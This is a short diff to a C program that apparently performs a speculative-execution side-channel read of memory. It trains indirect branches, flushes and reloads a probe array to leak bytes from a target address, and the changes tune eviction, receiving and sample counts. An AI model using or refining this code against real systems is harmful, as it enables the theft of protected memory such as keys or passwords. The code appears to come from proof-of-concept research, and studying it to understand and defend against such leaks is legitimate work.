@@ -28,12 +28,12 @@ static int read_byte(uint64_t address)
 	const uint8_t *probe = array + SHARED_PROBE;
 	uint64_t place = disclosure - BRANCH_BYTES;
 
-	send_for_receiving();
+	begin_receiving(address);
 	train(phantom_call, place);
 	for (int i = 0; i < options.branches.count; i++)
 		train(branches[i], place);
 	flush_probe(probe);
-	receive_with(address);
+	end_receiving();
 	return reload_probe(probe);
 }
 
@@ -52,14 +52,15 @@ int main(int argc, char **argv)
 	array = map_gadget(options.gadget);
 	catch_faults();
 	calibrate();
+	prepare_eviction();
 	prepare_receiving();
 	for (int i = 0; i < options.branches.count; i++)
 		branches[i] = place_branch(options.branches.at[i], INDIRECT_JUMP);
 	for (int i = 0; i < options.disclosures.count; i++) {
 		choose(options.disclosures.at[i]);
-		if (reads_known_byte(read_byte))
+		if (reads_known_byte(read_byte, array + SHARED_KNOWN))
 			break;
 	}
-	recover(sample, (struct patience){ .samples = 8, .lead = 2 }, 1);
+	recover(sample, (struct patience){ .samples = 16, .lead = 2 }, 1);
 	return 0;
 }
